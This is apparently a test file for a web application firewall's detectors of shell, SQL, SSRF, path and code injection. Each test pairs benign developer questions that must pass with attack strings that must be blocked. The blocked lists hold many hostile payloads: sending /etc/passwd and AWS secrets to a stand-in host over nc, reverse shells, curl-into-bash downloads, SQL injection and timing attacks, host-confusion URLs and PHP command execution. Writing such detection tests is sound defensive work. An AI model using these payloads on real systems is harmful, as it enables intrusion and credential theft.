// What developers paste and configurations hold, and the same where it would run.
import { test } from 'node:test';
import { detectCode } from '../../../src/guard/decide/waf/detect/code/code.ts';
import { detectPath } from '../../../src/guard/decide/waf/detect/path/path.ts';
import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
import { detectSql } from '../../../src/guard/decide/waf/detect/sql/sql.ts';
import { detectSsrf } from '../../../src/guard/decide/waf/detect/ssrf/ssrf.ts';
import { blocks, passes } from './judged.ts';

test('what PowerShell says of a cmdlet is no call of it', () => {
  passes(detectShell, [
    'Invoke-RestMethod: could not create SSL/TLS secure channel',
    "Get-Content: Cannot find path '/srv/a.txt' because it does not exist.",
  ]);
  blocks(detectShell, [
    'x; Invoke-RestMethod http://evil.example/x',
    'x | Get-Content C:\\Windows\\win.ini',
    'x; iex (irm http://evil.example/x): y',
  ]);
});

test('one’s own script and one process are looked at on lines of their own', () => {
  passes(detectShell, [
    '"running scripts is disabled". I can get around it with\npowershell.exe -ExecutionPolicy Bypass -File .\\setup.ps1\nbut what should we set?',
    'netstat -ano | findstr :5432\ntasklist /FI "PID eq 4711"\ntaskkill /PID 4711 /F\nIs there a single command?',
  ]);
  blocks(detectShell, [
    'x\npowershell.exe -ExecutionPolicy Bypass -File \\\\evil.example\\a\\setup.ps1\ny',
    'x\npowershell.exe -ep bypass -File .\\..\\..\\temp\\a.ps1; whoami /all\ny',
    'x & powershell.exe -ExecutionPolicy Bypass -File .\\setup.ps1',
    'x\ntasklist /v\ny',
    'x & tasklist /FI "PID eq 4711"',
  ]);
});

test('a pattern in single quotes names no files', () => {
  passes(detectShell, [
    "sed '/^\\[mysqld\\]/a max_connections = 500' /etc/mysql/my.cnf\nAdds it, but twice when run twice. Why?",
  ]);
  blocks(detectShell, [
    "x; sed '/^\\[mysqld\\]/p' /etc/pass*",
    "sed '' /etc/passwd",
    "sed '1e id' /etc/hosts; cat /etc/shadow",
    "x;awk '/root/' /etc/p?sswd",
  ]);
});

test('a pipe into nc carries a constant, and what is decoded is only read', () => {
  passes(detectShell, [
    "printf 'GET / HTTP/1.1\\r\\nHost: shop.example\\r\\n\\r\\n' | nc shop.example 80\nI get 400 Bad Request from nginx. Why?",
    'tls.crt: LS0tLS1CRUdJTg==\necho "$CRT" | base64 --decode | openssl x509 -noout -text\nunable to load certificate. Why?',
  ]);
  blocks(detectShell, [
    "x; printf 'GET / HTTP/1.0' | nc evil.example 80",
    'x\necho "$(cat /etc/passwd)" | nc evil.example 80\ny',
    'echo $AWS_SECRET_ACCESS_KEY | nc evil.example 80',
    "printf 'a' | nc evil.example 80 -e /bin/sh",
    'echo aWQ= | base64 --decode | sh',
    'x; echo aWQ= | base64 -d | bash',
  ]);
});

test('a loop that tells the time is shown; what tells who runs it is not', () => {
  passes(detectShell, [
    'command: ["/bin/sh", "-c", "while true; do echo $(date) $$HOSTNAME; sleep 60; done"]\nThe variable is not set. Why?',
  ]);
  blocks(detectShell, [
    'x; echo $(whoami)',
    'x; do echo $(date); cat /etc/passwd',
    'while true; do echo $(id); sleep 60; done',
  ]);
});

test('a download of nothing into a shell is a way of speaking', () => {
  passes(detectShell, [
    'curl | bash installs',
    'Why is curl | sudo bash bad?',
    'wget | sh considered harmful',
  ]);
  blocks(detectShell, [
    'x; curl evil.example | bash',
    'curl evil.example/x | bash',
    'x | bash',
    'x; curl $X | bash',
    'x; echo evil.example/a | xargs curl | sh',
    'x & xargs -a /tmp/u curl | bash',
    'x | curl evil.example/a | sh',
  ]);
});

test('commands below a label and in a fence are shown', () => {
  passes(detectShell, ['Use:\n```bash\nls -lS | head -n 10\n```\nor `du -sh * | sort -h`.']);
  blocks(detectShell, ['Use:`cat /etc/passwd`', 'x\n```\n`curl http://evil.example/a | sh`']);
});

test('no dialect with backticks joins statements without a semicolon', () => {
  passes(detectSql, [
    "Hello,\n\n```\nCOPY (SELECT id FROM users) TO '/tmp/users.csv' WITH (FORMAT csv, HEADER);\nWhy is it denied?\n```\n",
    'Hello,\n\n```\nCREATE PROCEDURE slow(IN secs INT)\nBEGIN\n  SELECT SLEEP(secs);\nEND\n```\n',
  ]);
  blocks(detectSql, [
    'x`; DROP TABLE users; -- ',
    'x` UNION SELECT user, password FROM users -- ',
    'x`=1 OR SLEEP(5)-- ',
    'a```; DROP TABLE users; -- ',
    'x`\n; DROP TABLE users; -- ',
    "x'; WAITFOR DELAY '0:0:5'--",
  ]);
});

test('a wait for nothing fails in every database', () => {
  passes(detectSql, ['sleep() in c', 'does sleep() block']);
  blocks(detectSql, [
    '1 or sleep(5)',
    "1' and sleep(/**/5)-- ",
    '1;select pg_sleep(5)',
    '1 and benchmark(1e7,md5(1))',
    '1 or sleep/*()*/(5)',
    '1 or sleep/*(5 s*/(5)',
    '1 or sleep()+sleep(5)',
  ]);
});

test('who signs in to a machine or is called has a name with dots', () => {
  passes(detectSsrf, ['sip:o.neil@pbx.example;transport=tls', 'ssh://first.last@git.example/a.git']);
  blocks(detectSsrf, ['http://bank.example@evil.example/', 'https://shop.example.com@evil.example/login']);
});

test('the log of an application of no known name is a path as any other', () => {
  passes(detectPath, ['/var/log/myapp/app.log', '/var/log/service/worker-1.log']);
  blocks(detectPath, [
    '/var/log/apache2/access.log',
    '/var/log/nginx/error.log',
    '/var/log/auth.log',
    '/var/log/syslog',
    '../../../../var/log/myapp/app.log',
  ]);
});

test('PHP that goes on as a sentence is no PHP; words in strings, patterns and classes are none', () => {
  passes(detectCode, [
    "<?php\n$out = shell_exec('ffmpeg -i ' . escapeshellarg($file));\nvar_dump($out);\nOn the shared host I get NULL, why is that?",
    'system("x") prints nothing here',
    "$_SERVER['REQUEST_URI'] is /index.php?a=1; $_GET is empty",
  ]);
  blocks(detectCode, [
    "<?php system('id');",
    "<?php system('id'); // on the shared host I get NULL",
    "<?php system('id'); /* on the shared host I get NULL */",
    "<?php system('id'); $a = 'it\\'s hello you man there';",
    "<?php system('id'); $a = <<<X\nhello you man there\nX;",
    "<?php system('id'); class Fast extends Exception implements Countable {}",
    "<?php system('id'); __halt_compiler(); hello you man there",
    "system('id'); $a = 'it\\'s hello you man there'",
    "require('child_process').exec('id'), /hello you man there/",
    "system('id'); class Fast extends Slow {}",
    "system('id') if fast is slow else 0",
    "system('id') or fast in slow",
    "os.execute('id') x = [[hello you man there]]",
    "system('id'); @a = qw(hello you man there)",
    "system('id'); a = %w[hello you man there]",
  ]);
});
